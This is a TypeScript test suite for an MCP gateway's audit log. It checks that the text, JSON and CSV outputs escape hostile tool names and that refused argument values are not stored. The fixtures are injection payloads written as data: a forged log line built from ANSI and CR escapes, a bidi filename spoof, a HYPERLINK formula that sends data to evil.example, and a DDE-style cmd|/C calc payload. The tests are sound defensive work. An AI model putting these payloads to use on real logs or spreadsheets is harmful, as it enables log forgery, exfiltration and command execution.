/**
 * Issue 12 "Output hygiene" — the audit trail holds what callers chose (tool names, reasons quoting
 * them), and `audit query` / `audit tail` print it. A caller sends tool names carrying CR, LF, ANSI
 * and C1 escapes, bidi overrides and a spreadsheet formula; the refusals are recorded, and no output
 * format prints any of those characters raw (a fake "allowed" line cannot appear), the CSV neutralizes
 * the formula, and the JSON output still parses to the exact recorded value. Also: with
 * `auditArguments: hash` or `off`, a reason never carries an argument's value.
 */
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { withoutArguments } from '../../src/audit/log.ts';
import { runCli, startGateway, type TestGateway } from '../helpers/gateway.ts';
import { auditRecords, codeOf, legacySession } from '../helpers/security.ts';

/** Characters that must never reach a terminal raw (newline separates lines and is allowed). */
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u;

const FAKE_LINE = '\r\u001b[2K2026-01-01T00:00:00.000Z  allowed  admin  tools/call files delete_everything\n';
const NAMES = [
  `echo${FAKE_LINE}`,
  'report\u009b31mred\u009b0m', // C1 CSI
  'safe\u202egnp.exe', // right-to-left override
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '@SUM(1+1)*cmd|/C calc!A0',
];

describe('audit query and tail print caller-chosen text escaped', () => {
  let gw: TestGateway;
  let config: string;

  before(async () => {
    gw = await startGateway({ servers: { everything: { command: process.execPath, args: [new URL('../fixtures/governed-server.ts', import.meta.url).pathname] } } });
    config = join(gw.gateway.config.dataDir!, 'portcullis.yaml');
    writeFileSync(config, `dataDir: ${JSON.stringify(gw.gateway.config.dataDir)}\nservers: {}\n`);
    const session = await legacySession(`${gw.url}/mcp/everything`);
    for (const [i, name] of NAMES.entries()) {
      const answer = await session.send({ jsonrpc: '2.0', id: i + 1, method: 'tools/call', params: { name, arguments: {} } });
      assert.equal(codeOf(answer), 'PC_ROUTE_UNKNOWN_TOOL', JSON.stringify(answer.json));
    }
    const recorded = auditRecords(gw).map((r) => r.target);
    for (const name of NAMES) assert.ok(recorded.includes(name), `the refusal of ${JSON.stringify(name)} is recorded as sent`);
  });
  after(async () => gw?.close());

  const clean = (label: string, out: string) => {
    const bad = RAW_CONTROL.exec(out);
    assert.equal(bad, null, `${label} printed U+${bad?.[0]?.codePointAt(0)?.toString(16)} raw`);
    assert.ok(!out.split('\n').some((l) => /^2026-01-01T00:00:00.000Z  allowed/.test(l)), `${label}: no forged line`);
  };

  it('text output (query and tail): every control, C1 and bidi character escaped', async () => {
    const query = await runCli(['audit', 'query', '-c', config, '--decision', 'denied']);
    assert.equal(query.code, 0, query.stderr);
    clean('audit query', query.stdout);
    assert.ok(query.stdout.includes('echo\\r\\e[2K2026-01-01T00:00:00.000Z  allowed  admin  tools/call files delete_everything\\n'), query.stdout);
    assert.ok(query.stdout.includes('safe\\u{202e}gnp.exe'));
    assert.ok(query.stdout.includes('report\\u{009b}31mred'));
    const tail = await runCli(['audit', 'tail', '-c', config, '-n', '20']);
    assert.equal(tail.code, 0, tail.stderr);
    clean('audit tail', tail.stdout);
  });

  it('JSON output: safe to print, and still the exact recorded value', async () => {
    for (const args of [['audit', 'query', '--json'], ['audit', 'tail', '-n', '20', '--json']]) {
      const out = await runCli([...args, '-c', config]);
      assert.equal(out.code, 0, out.stderr);
      clean(args.join(' '), out.stdout);
      const targets = out.stdout.trim().split('\n').map((l) => JSON.parse(l).target);
      for (const name of NAMES) assert.ok(targets.includes(name), `${args.join(' ')} round-trips ${JSON.stringify(name)}`);
    }
  });

  it('CSV output: formulas neutralized, controls escaped', async () => {
    const csv = await runCli(['audit', 'query', '-c', config, '--csv']);
    assert.equal(csv.code, 0, csv.stderr);
    clean('audit query --csv', csv.stdout);
    const cells = csv.stdout.split('\n').flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)/g) ?? []);
    for (const cell of cells) {
      const text = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
      assert.doesNotMatch(text, /^[=+\-@\t\r]/, `a cell starts a formula: ${text}`);
    }
    assert.ok(csv.stdout.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`), csv.stdout);
    assert.ok(csv.stdout.includes(`'@SUM(1+1)*cmd|/C calc!A0`));
  });
});

describe('reasons never carry an argument that is not recorded in full', () => {
  it('quoted argument values are replaced by the argument name (plain and JSON-escaped)', () => {
    const args = { path: '/home/alice/.ssh/id_ed25519', nested: { url: 'https://internal.example/a"b' }, n: 'ab' };
    const reason = 'argument "path" /home/alice/.ssh/id_ed25519 resolves outside; url "https://internal.example/a\\"b" refused; ab stays';
    const scrubbed = withoutArguments(reason, args);
    assert.equal(scrubbed, 'argument "path" [argument path] resolves outside; url "[argument nested.url]" refused; ab stays');
  });

  it('with auditArguments: hash and off, a refused value appears nowhere in the store', async () => {
    const marker = 'unrecorded-value-7f3a9c';
    for (const mode of ['hash', 'off'] as const) {
      const gw = await startGateway({
        servers: { gov: { command: process.execPath, args: [new URL('../fixtures/governed-server.ts', import.meta.url).pathname], auditArguments: mode } },
        policy: { rules: [{ name: 'echo-guarded', effect: 'allow', servers: ['gov'], tools: ['echo'], guards: { values: { text: { pattern: '[a-z]{1,3}' } } } }] },
      });
      try {
        const session = await legacySession(`${gw.url}/mcp/gov`);
        const answer = await session.send({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'echo', arguments: { text: marker } } });
        assert.ok(codeOf(answer), JSON.stringify(answer.json));
        const trail = auditRecords(gw);
        assert.ok(trail.some((r) => r.target === 'echo' && r.decision === 'denied'), `${mode}: the refusal is recorded`);
        assert.ok(!JSON.stringify(trail).includes(marker), `${mode}: the value is not in the trail`);
      } finally {
        await gw.close();
      }
    }
  });
});
